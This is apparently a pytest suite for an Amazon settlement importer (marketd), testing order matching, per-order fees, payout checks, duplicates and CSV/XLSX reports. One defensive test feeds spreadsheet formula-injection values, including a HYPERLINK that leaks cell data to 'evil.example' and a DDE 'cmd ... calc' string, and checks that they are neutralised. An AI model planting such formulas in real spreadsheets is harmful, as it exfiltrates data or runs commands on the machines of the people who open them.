"""Settlement files through the real inbox engine and the real SQLite store: matching, per-order
finance, the payout check, the reports (CSV, XLSX read back, aging list) and ``marketd orders show``."""
from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pytest

from .settlement_samples import (T0, D, Settlement, base, big_v2_file, fba_shipment_fee_line, make_env, mcf_lines,
                                 order_lines, other_line, refund_lines, render_v1, render_v2)

UTC = timezone.utc
A, B, C = "302-1111111-1111111", "302-2222222-2222222", "302-3333333-3333333"
MCF_ID, MCF_REF = "S01-1234567-7654321", "CONSUMER-2025821-20216"
SID = "24288684721"
NAME = base(SID)  # settlement-amazon-<id>: the reports' names


@pytest.fixture
def env(app_factory):
    return make_env(app_factory)


def settlement(**kw) -> Settlement:
    """A: sale, promotion and refund in one settlement; B: FBA order with withheld tax; C: an
    order the store does not have; an MCF order; an FBA inbound fee; account-level rows; one
    row of an unknown type."""
    lines = (order_lines(A, principal="29.99", shipping="4.90", promotion="-4.90", digital_services_fee="-0.45",
                         sku="SKU-A")
             + order_lines(B, principal="1234.56", shipping="0", fba_fee="-3.22", withheld="-2.10", fulfillment="AFN",
                           sku="SKU-B", item_code="52183016457099")
             + refund_lines(A, principal="-29.99", commission_back="4.50", refund_commission="-0.90", sku="SKU-A")
             + order_lines(C, principal="10.00", shipping="0", sku="SKU-C")
             + mcf_lines(MCF_ID, MCF_REF)
             + [fba_shipment_fee_line(),
                other_line("Storage Fee", "-7.21"), other_line("Subscription Fee", "-39.00"),
                other_line("Current Reserve Amount", "-120.00"), other_line("Previous Reserve Amount Balance", "95.50"),
                other_line("Brand New Thing", "1.11", transaction_type="NewTransactionType", amount_type="Mystery")])
    return Settlement(lines=lines, **kw)


def stored_orders(env) -> dict:
    return {"A": env.order(A), "B": env.order(B),
            "MCF": env.order(MCF_REF, channel="shop", channel_type="manual")}


def money(row: dict, *cols) -> list[Decimal]:
    return [Decimal(row[c]) for c in cols]


CATS = ("revenue", "marketplace_fee", "promotion", "withheld_tax", "refund", "other", "unclassified", "net")


# -- the whole path --------------------------------------------------------------------------------
def test_settlement_is_matched_stored_per_order_and_reported(env):
    keys = stored_orders(env)
    s = settlement()
    assert s.total_amount == D("963.78")
    row = env.drop("settlement.txt", render_v2(s))
    assert row["state"] == "done", row["error"]
    done = list((env.inbox / ".done").rglob("*settlement.txt"))
    assert len(done) == 1

    st = env.payout(SID)
    assert st["status"] == "ok" and st["difference"] == "0.00" and st["stated_total"] == "963.78"
    assert st["payout_key"] == f"amazon:{SID}" and st["source"] == "amazon-flat-v2"
    assert (st["orders"], st["matched"], st["unmatched"], st["other_refs"]) == (4, 3, 1, 1)
    assert st["no_order_rows"] == 5 and st["unclassified_rows"] == 1
    assert money(st, *CATS) == [D(x) for x in ("1279.45", "-209.08", "-4.90", "-2.10", "-29.99", "-70.71", "1.11",
                                               "963.78")]

    # per order, stored on the order (settlement_orders.order_key = orders.key), summed exactly
    fa = env.finance(keys["A"])
    assert money(fa, *CATS) == [D(x) for x in ("34.89", "-1.35", "-4.90", "0", "-29.99", "0", "0", "-1.35")]
    assert fa["payout_ids"] == SID and fa["payout_count"] == 1 and fa["currency"] == "EUR"
    assert (fa["fees"], fa["refunds"], fa["promotions"]) == ("-1.35", "-29.99", "-4.90")  # the old names, one release
    fb = env.finance(keys["B"])
    assert money(fb, "revenue", "marketplace_fee", "withheld_tax", "net") == [D("1234.56"), D("-188.40"), D("-2.10"),
                                                                             D("1044.06")]
    assert fb["fee_pct"] == "15.26"  # 188.40 / 1234.56, half-even to 0.01
    fm = env.finance(keys["MCF"])
    assert money(fm, "marketplace_fee", "net") == [D("-5.49"), D("-5.49")]
    assert env.one("select count(distinct order_key) n from payout_refs")["n"] == 3

    so = env.refs(SID)
    assert so[A]["match"] == "order_id" and so[A]["order_key"] == keys["A"]
    assert so[MCF_ID]["match"] == "merchant_order_id" and so[MCF_ID]["order_key"] == keys["MCF"]
    assert so[MCF_ID]["merchant_ref"] == MCF_REF and so[MCF_ID]["marketplace"] == "Non-Amazon DE"
    assert so[C]["match"] == "none" and so[C]["order_key"] is None and so[C]["net"] == "8.50"
    assert so["FBA19CD9HGQ8"]["match"] == "fba_shipment" and so["FBA19CD9HGQ8"]["marketplace_fee"] == "-12.34"
    assert so[None]["match"] == "no_order" and so[None]["other"] == "-70.71" and so[None]["unclassified"] == "1.11"
    # the fee subtypes of an order: one line each (commission credited back on the refund)
    lines = {(r["category"], r["subtype"]): r["amount"] for r in env.all(
        "select l.* from payout_lines l join payout_refs r using (pid, ref_no) where r.order_ref = ?", [B])}
    assert lines == {("revenue", None): "1234.56", ("marketplace_fee", "commission"): "-185.18",
                     ("marketplace_fee", "fulfilment"): "-3.22", ("withheld_tax", None): "-2.10"}
    assert so[A]["posted_first"] == (T0 + timedelta(days=2, hours=3)).isoformat()
    assert so[A]["posted_last"] == (T0 + timedelta(days=5)).isoformat()

    # the ERP CSV: one row per order-id, then the account-level amounts: it adds up to the payout
    rows = env.csv_rows(f"{NAME}.csv")
    assert [r["order_ref"] for r in rows] == [A, B, C, "FBA19CD9HGQ8", MCF_ID, ""]
    assert [r["match"] for r in rows] == ["order_id", "order_id", "none", "fba_shipment", "merchant_order_id",
                                          "no_order"]
    assert {r["payout_key"] for r in rows} == {f"amazon:{SID}"} and {r["channel_type"] for r in rows} == {"amazon"}
    assert sum(Decimal(r["net"]) for r in rows) == D("963.78")
    for c in CATS[:-1]:
        assert sum(Decimal(r[c]) for r in rows) == Decimal(st[c])
    assert rows[0]["order_key"] == keys["A"] and rows[0]["marketplace_fee"] == "-1.35" and rows[0]["rows"] == "8"
    assert rows[-1]["other"] == "-70.71" and rows[-1]["unclassified"] == "1.11"
    for name in (f"{NAME}.csv", f"{NAME}-lines.csv"):
        mode = stat.S_IMODE(os.stat(env.report(name)).st_mode)
        assert mode == 0o640  # no personal data in it (no names, no addresses): the group reads it, others never
        assert "Erika" not in env.report(name).read_text()
    # the lines CSV: the fee-subtype detail, adding up to the same payout
    lines = env.csv_rows(f"{NAME}-lines.csv")
    assert sum(Decimal(r["amount"]) for r in lines) == D("963.78")
    assert {"order_ref": B, "category": "marketplace_fee", "subtype": "fulfilment",
            "description": "ItemFees/FBAPerUnitFulfillmentFee", "currency": "EUR", "amount": "-3.22",
            "rows": "1"} in lines

    summary = row["summary"]
    assert '"status": "ok"' in summary and '"difference": "0.00"' in summary


def test_xlsx_for_people_has_summary_orders_unmatched_unclassified_and_aging(env):
    stored_orders(env)
    env.order("302-4444444-4444444", purchased=datetime(2026, 7, 20, tzinfo=UTC))   # shipped, never settled
    assert env.drop("s.txt", render_v2(settlement()))["state"] == "done"
    wb = openpyxl.load_workbook(env.report(f"{NAME}.xlsx"))
    assert wb.sheetnames == ["Summary", "Orders", "Fees", "Unmatched", "Unclassified", "Unsettled"]

    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert summary["Payout id"] == SID and summary["Currency"] == "EUR" and summary["Payout"] == f"amazon:{SID}"
    assert Decimal(str(summary["Stated payout"])) == D("963.78")
    assert Decimal(str(summary["Sum of the lines"])) == D("963.78")
    assert summary["Difference (sum - stated)"] == 0
    assert summary["Payout check"].startswith("OK")
    assert summary["Layout"] == "V2 (24 columns)" and summary["Encoding"] == "utf-8"
    totals = {k: Decimal(str(v)) for k, v in summary.items() if isinstance(k, str) and k.startswith("Total ")}
    assert totals == {"Total revenue": D("1279.45"), "Total marketplace fee": D("-209.08"),
                      "Total promotion": D("-4.90"), "Total withheld tax": D("-2.10"), "Total refund": D("-29.99"),
                      "Total other": D("-70.71"), "Total unclassified": D("1.11"), "Total net": D("963.78")}
    # the breakdown by (transaction-type, amount-type, amount-description) under the totals
    breakdown = [r for r in wb["Summary"].iter_rows(values_only=True) if r and len(r) >= 7 and r[3] in
                 ("revenue", "marketplace_fee", "other", "unclassified", "refund", "promotion", "withheld_tax")]
    assert ("Refund", "ItemFees", "RefundCommission", "marketplace_fee", "refund_commission", 1, -0.9) in breakdown
    assert sum(Decimal(str(r[6])) for r in breakdown) == D("963.78")
    fees = {(r[0], r[1]): Decimal(str(r[4])) for r in list(wb["Fees"].iter_rows(values_only=True))[1:]}
    assert fees[("marketplace_fee", "fulfilment")] == D("-21.05")  # B's -3.22, the MCF -5.49, the FBA inbound -12.34
    assert sum(fees.values()) == D("-209.08")

    orders = list(wb["Orders"].iter_rows(values_only=True))
    assert orders[0][:3] == ("order_ref", "merchant_ref", "order_key")
    assert [r[0] for r in orders[1:]] == [A, B, C, "FBA19CD9HGQ8", MCF_ID]
    net_col = orders[0].index("net")
    assert isinstance(orders[1][net_col], (int, float)) and Decimal(str(orders[2][net_col])) == D("1044.06")

    unmatched = list(wb["Unmatched"].iter_rows(values_only=True))
    reasons = {(r[1], r[3]) for r in unmatched[1:]}
    assert (C, "no stored order with this id (yet)") in reasons
    assert ("FBA19CD9HGQ8", "FBA shipment id (inbound shipment fee), not an order") in reasons
    no_order = [r for r in unmatched[1:] if r[3] == "no order id (account-level amount)"]
    assert sorted(r[6] for r in no_order) == sorted(["Storage Fee", "Subscription Fee", "Current Reserve Amount",
                                                     "Previous Reserve Amount Balance", "Brand New Thing"])
    assert all(isinstance(r[0], int) and r[0] > 2 for r in no_order)  # file line numbers

    unc = list(wb["Unclassified"].iter_rows(values_only=True))
    assert unc[0] == ("line", "order_ref", "transaction-type", "amount-type", "amount-description", "amount", "sku")
    assert len(unc) == 2 and (unc[1][1] or "", unc[1][2], unc[1][3], unc[1][4]) == (
        "", "NewTransactionType", "Mystery", "Brand New Thing")
    assert Decimal(str(unc[1][5])) == D("1.11") and unc[1][0] == len(settlement().lines) + 2

    aging = list(wb["Unsettled"].iter_rows(values_only=True))
    assert aging[1][2] == "302-4444444-4444444" and aging[1][6] == (env.clock.now() - datetime(2026, 7, 20,
                                                                                                tzinfo=UTC)).days


def test_aging_lists_shipped_orders_no_settlement_mentions(env):
    stored_orders(env)
    now = env.clock.now()
    env.order("302-4444444-4444444", purchased=now - timedelta(days=45))                       # listed
    env.order("302-5555555-5555555", purchased=now - timedelta(days=100))                      # listed, older
    env.order("302-6666666-6666666", purchased=now - timedelta(days=10))                       # too recent
    env.order("302-7777777-7777777", purchased=now - timedelta(days=45), status="UNSHIPPED")   # not shipped
    env.order("302-8888888-8888888", purchased=now - timedelta(days=400))                      # beyond 180 days
    env.order("SHOP-1", channel="shop", channel_type="manual", purchased=now - timedelta(days=60))  # not Amazon
    env.drop("s.txt", render_v2(settlement()))
    rows = env.csv_rows(f"{NAME}-unsettled.csv")
    assert [r["order_id"] for r in rows] == ["302-5555555-5555555", "302-4444444-4444444"]
    assert rows[0]["age_days"] == "100" and rows[0]["status"] == "SHIPPED"
    assert "Erika" not in env.report(f"{NAME}-unsettled.csv").read_text()


def test_aging_days_are_configurable(app_factory):
    env = make_env(app_factory, inbox={"settlements": {"unsettled_days": 5, "xlsx": False}})
    env.order("302-6666666-6666666", purchased=env.clock.now() - timedelta(days=10))
    env.drop("s.txt", render_v2(settlement()))
    assert [r["order_id"] for r in env.csv_rows(f"{NAME}-unsettled.csv")] == ["302-6666666-6666666"]
    assert not (env.reports / f"{NAME}.xlsx").exists()


def test_v1_archived_file_through_the_engine(env):
    keys = stored_orders(env)
    s = settlement()
    row = env.drop("50011020300.txt", render_v1(s, decimal=",", pad=True))
    assert row["state"] == "done", row["error"]
    st = env.payout()
    assert json.loads(st["meta"])["layout"] == "v1" and st["source"] == "amazon-flat-v1"
    assert st["status"] == "ok" and st["stated_total"] == "963.78"
    assert env.finance(keys["A"])["net"] == "-1.35"


# -- formula injection -----------------------------------------------------------------------------
def test_outputs_are_safe_from_spreadsheet_formula_injection(env):
    evil_order = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    lines = (order_lines(evil_order, principal="10.00", shipping="0", merchant_order_id="@SUM(1+1)*cmd",
                         marketplace="+Amazon.de", sku="SKU-1")
             + [other_line("-2+3+cmd|' /C calc'!A0", "-1.00", transaction_type="=1+2", amount_type="@Mystery",
                           sku="=cmd")])
    s = Settlement(lines=lines)
    assert env.drop("evil.txt", render_v2(s))["state"] == "done"
    text = env.report(f"{NAME}.csv").read_text()
    rows = list(csv.reader(text.splitlines()))
    order = next(r for r in rows if "HYPERLINK" in "".join(r))
    assert "'" + evil_order in order and "'@SUM(1+1)*cmd" in order
    assert "-1.50" in order  # amounts stay plain numbers
    lines = list(csv.reader(env.report(f"{NAME}-lines.csv").read_text().splitlines()))
    assert any("'@Mystery/-2+3+cmd|' /C calc'!A0" in r for r in lines)
    for r in rows + lines:
        for cell in r:
            assert not (cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not cell[1:2].isdigit())), cell

    wb = openpyxl.load_workbook(env.report(f"{NAME}.xlsx"))
    for ws in wb.worksheets:
        for r in ws.iter_rows():
            for cell in r:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "@"), (ws.title, cell.value)
    unc = list(wb["Unclassified"].iter_rows(values_only=True))[1]
    assert unc[2] == "'=1+2" and unc[3] == "'@Mystery" and unc[6] == "'=cmd"


# -- matching rules --------------------------------------------------------------------------------
def test_mcf_order_matches_an_amazon_stored_order_by_its_merchant_order_id(env):
    key = env.order("ERP-77", channel="erp", channel_type="manual")
    key2 = env.order("302-9999999-9999999", merchant_order_id="SELLER-REF-9")
    lines = mcf_lines("S01-1111111-2222222", "ERP-77") + mcf_lines("S01-3333333-4444444", "SELLER-REF-9", fee="-2.00")
    env.drop("mcf.txt", render_v2(Settlement(lines=lines)))
    so = env.refs()
    assert so["S01-1111111-2222222"]["order_key"] == key and so["S01-1111111-2222222"]["channel"] == "erp"
    assert so["S01-3333333-4444444"]["order_key"] == key2
    assert env.finance(key)["marketplace_fee"] == "-5.49" and env.finance(key2)["marketplace_fee"] == "-2.00"
    # the S01 ids are remembered as other ids of the shop orders
    assert env.all("select alias, order_key, kind from order_aliases order by alias") == [
        {"alias": "S01-1111111-2222222", "order_key": key, "kind": "payout_ref"},
        {"alias": "S01-3333333-4444444", "order_key": key2, "kind": "payout_ref"}]


def test_two_mcf_shipments_of_one_shop_order_add_up_on_that_order(env):
    key = env.order(MCF_REF, channel="shop", channel_type="manual")
    lines = mcf_lines("S01-1111111-0000001", MCF_REF, fee="-5.49") + mcf_lines("S01-1111111-0000002", MCF_REF,
                                                                                 fee="-3.10")
    env.drop("mcf.txt", render_v2(Settlement(lines=lines)))
    f = env.finance(key)
    assert f["marketplace_fee"] == "-8.59" and f["net"] == "-8.59" and f["payout_count"] == 1


def test_fetched_file_name_restricts_matching_to_that_account(app_factory):
    env = make_env(app_factory, channels={"amz-it": {"type": "amazon", "marketplace": "IT"}})
    key_it = env.order(A, channel="amz-it")
    env.order(B, channel="amazon-de")  # same seller, another account: not this settlement's order
    lines = order_lines(A, marketplace="Amazon.it") + order_lines(B, marketplace="Amazon.it")
    env.drop("amazon-amz-it-settlement-51234567890.txt", render_v2(Settlement(lines=lines)))
    so = env.refs()
    assert so[A]["order_key"] == key_it and so[B]["order_key"] is None and so[B]["match"] == "none"
    assert env.payout()["channel"] == "amz-it" and env.payout()["match_channels"] == "amz-it"


def test_orders_stored_under_another_channel_name_are_found_by_order_id(env):
    key = env.order(A, channel="old-amazon-account")  # renamed since: not in the config any more
    env.drop("s.txt", render_v2(Settlement(lines=order_lines(A))))
    assert env.refs()[A]["order_key"] == key


# -- across settlements ----------------------------------------------------------------------------
def test_refund_in_an_earlier_settlement_than_the_sale_and_a_reversal_later(env):
    key = env.order(A)
    first = Settlement(settlement_id="23874397121", lines=refund_lines(A, principal="-29.99", commission_back="4.50",
                                                                     refund_commission="-0.90"))
    second = Settlement(settlement_id="24288684721", start=T0 + timedelta(days=14), end=T0 + timedelta(days=28),
                        deposit=T0 + timedelta(days=30),
                        lines=order_lines(A, principal="29.99", shipping="4.90",
                                          posted=T0 + timedelta(days=15)))
    third = Settlement(settlement_id="24495221541", start=T0 + timedelta(days=28), end=T0 + timedelta(days=42),
                       deposit=T0 + timedelta(days=44),
                       lines=[other_line("REVERSAL_REIMBURSEMENT", "29.99", order_id=A,
                                         posted=T0 + timedelta(days=40))])
    env.drop("refund-first.txt", render_v2(first))
    f = env.finance(key)
    assert (f["refund"], f["marketplace_fee"], f["net"]) == ("-29.99", "3.60", "-26.39")
    env.drop("sale-second.txt", render_v2(second))
    f = env.finance(key)
    assert money(f, "revenue", "marketplace_fee", "refund", "net") == [D("34.89"), D("-0.90"), D("-29.99"), D("4.00")]
    assert f["payout_ids"] == "23874397121,24288684721" and f["payout_count"] == 2
    env.drop("reversal-third.txt", render_v2(third))
    f = env.finance(key)
    assert money(f, "other", "net") == [D("29.99"), D("33.99")] and f["payout_count"] == 3
    assert f["first_posted"] == (T0 + timedelta(days=5)).isoformat()
    assert f["last_posted"] == (T0 + timedelta(days=40)).isoformat()
    # the per-settlement rows still say what each settlement paid for the order
    per = [env.refs(sid)[A]["net"] for sid in ("23874397121", "24288684721", "24495221541")]
    assert per == ["-26.39", "30.39", "29.99"]


def test_unmatched_order_ids_attach_when_the_order_arrives_before_the_next_settlement(env):
    env.drop("first.txt", render_v2(Settlement(settlement_id="11111111111", lines=order_lines(C))))
    assert env.refs()[C]["order_key"] is None
    assert env.payout()["unmatched"] == 1
    key = env.order(C)  # the order sync brings it later
    row = env.drop("second.txt", render_v2(Settlement(settlement_id="22222222222",
                                                        lines=[other_line("Storage Fee", "-1.00")])))
    assert '"rematched": 1' in row["summary"]
    first = env.refs("11111111111")[C]
    assert first["order_key"] == key and first["match"] == "order_id"
    assert env.finance(key)["net"] == "21.89" and env.finance(key)["payout_ids"] == "11111111111"
    st = env.payout("11111111111")
    assert (st["matched"], st["unmatched"]) == (1, 0)


def test_later_attachment_respects_the_settlements_account(app_factory):
    env = make_env(app_factory, channels={"amz-it": {"type": "amazon", "marketplace": "IT"}})
    env.drop("amazon-amz-it-settlement-1.txt", render_v2(Settlement(settlement_id="11111111111",
                                                                    lines=order_lines(A) + order_lines(B))))
    other = env.order(A, channel="amazon-de")  # another account's order with that id: not this one
    mine = env.order(B, channel="amz-it")
    row = env.drop("next.txt", render_v2(Settlement(settlement_id="22222222222", lines=[other_line("Storage Fee", "-1")])))
    assert '"rematched": 1' in row["summary"]
    so = env.refs("11111111111")
    assert so[A]["order_key"] is None and so[B]["order_key"] == mine
    assert env.finance(other) is None and env.finance(mine)["net"] == "21.89"


def test_order_imported_event_attaches_waiting_settlement_lines(env):
    """Through the plugin's registered hook (as an order sync emits it), not the function alone."""
    env.drop("first.txt", render_v2(Settlement(lines=order_lines(C) + mcf_lines(MCF_ID, MCF_REF))))
    key = env.order(C)
    assert env.finance(key) is None  # stored after the settlement: nothing attached yet
    env.app.emit("order_imported", order=env.app.store.get_order(key))
    mkey = env.order(MCF_REF, channel="shop", channel_type="manual")
    env.app.emit("order_imported", order=env.app.store.get_order(mkey))
    assert env.finance(key)["net"] == "21.89" and env.finance(mkey)["net"] == "-5.49"
    # a late match by the merchant's reference leaves an alias (the next payout naming the MCF
    # shipment matches it at once); a late match by order id needs none
    assert env.all("select alias, order_key, kind from order_aliases order by alias") == [
        {"alias": MCF_ID, "order_key": mkey, "kind": "payout_ref"}]
    # an order nothing waits for: no write, no change
    other = env.order(A)
    before = env.all("select * from payout_refs order by order_ref")
    env.app.emit("order_imported", order=env.app.store.get_order(other))
    assert env.all("select * from payout_refs order by order_ref") == before


# -- duplicates and corrections --------------------------------------------------------------------
def _state(env):
    return (env.all("select * from payouts"), env.all("select * from payout_refs order by order_ref"),
            env.all("select * from payout_lines order by pid, ref_no, line_no"),
            [env.finance(r["key"]) for r in env.all("select key from orders order by key")])


def test_same_file_again_is_a_duplicate_and_not_counted(env):
    stored_orders(env)
    data = render_v2(settlement())
    first = env.drop("settlement.txt", data)
    before = _state(env)
    env.clock.advance(60)
    again = env.drop("settlement-copy.txt", data)
    assert again["state"] == "duplicate" and again["duplicate_of"] == first["id"]
    assert list((env.inbox / ".duplicate").rglob("*settlement-copy.txt"))
    assert _state(env) == before
    report = [p for p in env.reports.iterdir() if "duplicate" in p.name]
    assert len(report) == 1 and "NOT counted again" in report[0].read_text()
    assert "settlement.txt" in report[0].read_text()


@pytest.mark.parametrize("variant", [
    dict(encoding="cp1252"), dict(newline="\r\n"), dict(bom=True), dict(decimal=",", dates="dmy"),
    dict(columns=23, currency_on_rows=False),
])
def test_another_copy_of_an_applied_settlement_is_a_duplicate(env, variant):
    """The same settlement downloaded again, from the other button, re-encoded: new bytes, same id."""
    keys = stored_orders(env)
    s = settlement()
    s.lines.append(other_line("Frais d'expédition", "-1.00"))
    first = env.drop("amazon-api.txt", render_v2(s))
    before = _state(env)
    copy = render_v2(s, **variant)
    assert copy != render_v2(s)
    again = env.drop("seller-central.txt", copy)
    assert again["state"] == "duplicate" and again["duplicate_of"] == first["id"], again
    assert list((env.inbox / ".duplicate").rglob("*seller-central.txt"))
    assert _state(env) == before
    assert env.finance(keys["A"])["payout_count"] == 1
    text = next(p for p in env.reports.iterdir() if "duplicate" in p.name).read_text()
    assert "amazon-api.txt" in text and "content differs" in text


def test_v1_copy_of_an_applied_v2_settlement_is_a_duplicate(env):
    stored_orders(env)
    env.drop("v2.txt", render_v2(settlement()))
    before = _state(env)
    assert env.drop("v1.txt", render_v1(settlement()))["state"] == "duplicate"
    assert _state(env) == before


def test_inconsistent_settlement_is_applied_reported_and_replaced_by_a_consistent_copy(env):
    keys = stored_orders(env)
    full = settlement()
    cut = Settlement(lines=[ln for ln in full.lines if ln.amount_description != "Current Reserve Amount"],
                     total=full.total_amount)  # Amazon left the reserve line out
    row = env.drop("incomplete.txt", render_v2(cut))
    assert row["state"] == "done"
    st = env.payout()
    assert st["status"] == "inconsistent" and st["difference"] == "120.00"
    assert st["computed_total"] == "1083.78" and st["stated_total"] == "963.78"
    wb = openpyxl.load_workbook(env.report(f"{NAME}.xlsx"))
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert summary["Payout check"].startswith("INCONSISTENT") and "Current Reserve Amount" in summary["Payout check"]
    assert Decimal(str(summary["Difference (sum - stated)"])) == D("120.00")
    assert env.finance(keys["A"])["net"] == "-1.35"  # orders are applied all the same

    # the same inconsistent content re-encoded: still a duplicate of the first copy
    assert env.drop("incomplete-again.txt", render_v2(cut, newline="\r\n"))["state"] == "duplicate"

    row = env.drop("complete.txt", render_v2(full))
    assert row["state"] == "done", row["error"]
    st = env.payout()
    assert st["status"] == "ok" and st["difference"] == "0.00" and st["file_name"] == "complete.txt"
    assert "replaces the inconsistent copy incomplete.txt" in st["warnings"]
    assert env.one("select count(*) n from payouts")["n"] == 1
    f = env.finance(keys["A"])
    assert f["net"] == "-1.35" and f["payout_count"] == 1 and f["payout_ids"] == SID
    # the first reports stay; the replacement's reports have their own names
    names = {p.name for p in env.reports.iterdir() if p.suffix == ".csv" and "unsettled" not in p.name
             and "lines" not in p.name}
    assert f"{NAME}.csv" in names and len(names) == 2
    (second,) = names - {f"{NAME}.csv"}
    assert second.startswith(f"{NAME}-") and (env.reports / second.replace(".csv", ".xlsx")).exists()
    assert (env.reports / second.replace(".csv", "-lines.csv")).exists()
    new_rows = env.csv_rows(second)
    assert sum(Decimal(r["net"]) for r in new_rows) == D("963.78")
    old_rows = env.csv_rows(f"{NAME}.csv")
    assert sum(Decimal(r["net"]) for r in old_rows) == D("1083.78")
    # a later, still different copy is a duplicate of the consistent one
    env.clock.advance(60)
    assert env.drop("complete-cp1252.txt", render_v2(full, encoding="cp1252", decimal=","))["state"] == "duplicate"


def test_two_inconsistent_copies_keep_the_first(env):
    full = settlement()
    a = Settlement(lines=full.lines[:-1], total=full.total_amount)
    b = Settlement(lines=full.lines[:-2], total=full.total_amount)
    env.drop("a.txt", render_v2(a))
    row = env.drop("b.txt", render_v2(b))
    assert row["state"] == "duplicate"
    assert env.payout()["file_name"] == "a.txt"
    text = next(p for p in env.reports.iterdir() if "duplicate" in p.name).read_text()
    assert "does not add up to the payout either" in text


def test_file_cut_at_a_row_boundary_is_an_inconsistent_settlement(env):
    data = render_v2(settlement())
    cut = data[: data.rfind(b"\n", 0, data.rfind(b"Subscription Fee")) + 1]
    row = env.drop("cut.txt", cut)
    assert row["state"] == "done"
    st = env.payout()
    # Subscription Fee, the reserve lines and the unknown row are missing: -39.00 - 120.00 + 95.50 + 1.11
    assert st["status"] == "inconsistent" and Decimal(st["difference"]) == D("62.39")


def test_forget_then_drop_again_applies_it_again(env, tmp_path):
    keys = stored_orders(env)
    data = render_v2(settlement())
    env.drop("s.txt", data)
    out = marketd(env, "settlements", "forget", SID)
    assert out.returncode == 0, out.stderr
    assert env.finance(keys["A"]) is None and env.one("select count(*) n from payout_refs")["n"] == 0
    assert env.one("select count(*) n from payout_lines")["n"] == 0
    assert env.one("select count(*) n from business_keys where key like 'amazon-settlement:%'")["n"] == 0
    row = env.drop("s-corrected.txt", data.replace(b"\r", b"") + b"\n")
    assert row["state"] == "done", row["error"]
    assert env.finance(keys["A"])["payout_count"] == 1


# -- the command line ------------------------------------------------------------------------------
def marketd(env, *args) -> subprocess.CompletedProcess:
    config = env.app.state_dir.parent / "marketd.toml"
    return subprocess.run([sys.executable, "-m", "marketd", "--config", str(config), *args], capture_output=True,
                          text=True, timeout=120)


def test_orders_show_prints_what_amazon_paid_and_charged(env):
    keys = stored_orders(env)
    env.drop("s.txt", render_v2(settlement()))
    out = marketd(env, "orders", "show", A)
    assert out.returncode == 0, out.stderr
    text = out.stdout
    assert f"order       {keys['A']}" in text
    assert "fees paid to the marketplace" in text and "-1.35 EUR" in text
    assert "revenue (price" in text and "34.89 EUR" in text
    assert "refunds" in text and "-29.99 EUR" in text
    assert "promotions" in text and "-4.90 EUR" in text
    assert "digital_services" in text and "-0.45 EUR" in text  # one line per fee subtype
    assert f"payout {SID} (amazon, ok" in text
    out = marketd(env, "orders", "show", C)  # not stored: the payout line is still shown
    assert out.returncode == 0 and "unmatched payout line" in out.stdout and "8.50" in out.stdout
    out = marketd(env, "orders", "show", MCF_REF, "--json")
    assert out.returncode == 0
    view = json.loads(out.stdout)
    assert view["finance"][0]["marketplace_fee"] == "-5.49" and view["orders"][0]["key"] == keys["MCF"]
    assert view["finance"][0]["fees"] == "-5.49"  # the old name, kept one release
    out = marketd(env, "settlements")
    assert out.returncode == 0 and f"amazon:{SID}" in out.stdout and "ok" in out.stdout
    out = marketd(env, "settlements", "show", SID)  # the bare id finds it: unique across channel types
    assert out.returncode == 0 and f"amazon:{SID}" in out.stdout and "963.78" in out.stdout
    out = marketd(env, "orders", "show", "302-0000000-0000000")
    assert out.returncode != 0 and "no order" in out.stderr


# -- size ------------------------------------------------------------------------------------------
def test_a_bigger_file_and_the_xlsx_row_limit(app_factory, tmp_path):
    env = make_env(app_factory, inbox={"settlements": {"xlsx_max_rows": 50}})
    info = big_v2_file(tmp_path / "big.txt", rows=20_000, orders=4_000)
    now = T0.isoformat()
    rows = [(f"amazon-de:{o}", "amazon-de", "amazon", o, None, "SHIPPED", now, now, "EUR", "1.00")
            for o in info["order_ids"]]
    rows += [(f"shop:{r}", "shop", "manual", r, None, "SHIPPED", now, now, "EUR", "1.00") for r in info["mcf_refs"]]
    with env.app.store.transaction() as db:
        db.conn.executemany("insert into orders (key, channel, channel_type, order_id, merchant_order_id, status, "
                            "purchased_at, updated_at, currency, total) values (?,?,?,?,?,?,?,?,?,?)", rows)
    row = env.drop("big.txt", (tmp_path / "big.txt").read_bytes())
    assert row["state"] == "done", row["error"]
    st = env.payout()
    assert st["status"] == "ok" and Decimal(st["stated_total"]) == info["total"]
    assert st["matched"] == len(info["order_ids"]) + len(info["mcf_refs"]) and st["unmatched"] == len(info["missing"])
    csv_rows = env.csv_rows("settlement-amazon-29876543210.csv")
    assert sum(Decimal(r["net"]) for r in csv_rows) == info["total"]
    assert sum(Decimal(r["amount"]) for r in env.csv_rows("settlement-amazon-29876543210-lines.csv")) == info["total"]
    assert env.one("select count(distinct order_key) n from payout_refs")["n"] == st["matched"]
    wb = openpyxl.load_workbook(env.report("settlement-amazon-29876543210.xlsx"), read_only=True)
    orders = list(wb["Orders"].iter_rows(values_only=True))
    assert len(orders) == 1 + 50 + 1 and "more row(s) not shown" in orders[-1][0]
    assert "settlement-amazon-29876543210.csv" in orders[-1][0]


def test_csv_quotes_ids_with_commas_quotes_and_line_breaks(env):
    lines = (order_lines(A, merchant_order_id='ERP "7", shelf 2', marketplace="Amazon.de, Inc.")
             + order_lines(B, principal="5.00", shipping="0"))
    env.drop("q.txt", render_v2(Settlement(lines=lines)))
    rows = env.csv_rows(f"{NAME}.csv")
    assert rows[0]["merchant_ref"] == 'ERP "7", shelf 2'
    assert rows[1]["order_ref"] == B and rows[1]["net"] == "4.25"
    assert len(rows) == 2 and all(len(r) == 23 for r in rows)


def test_legacy_report_names_keep_amazons_old_files_and_columns(app_factory):
    """``report_names = "legacy"``: ERPs polling settlement-<id>.csv keep getting it, with the old columns."""
    env = make_env(app_factory, inbox={"settlements": {"report_names": "legacy"}})
    keys = stored_orders(env)
    lines = (order_lines(A, merchant_order_id='ERP "7", shelf 2', marketplace="Amazon.de, Inc.")
             + order_lines(B, principal="5.00", shipping="0"))
    env.drop("q.txt", render_v2(Settlement(lines=lines)))
    assert sorted(p.name for p in env.reports.iterdir()) == [f"settlement-{SID}-unsettled.csv", f"settlement-{SID}.csv",
                                                           f"settlement-{SID}.xlsx"]
    rows = env.csv_rows(f"settlement-{SID}.csv")
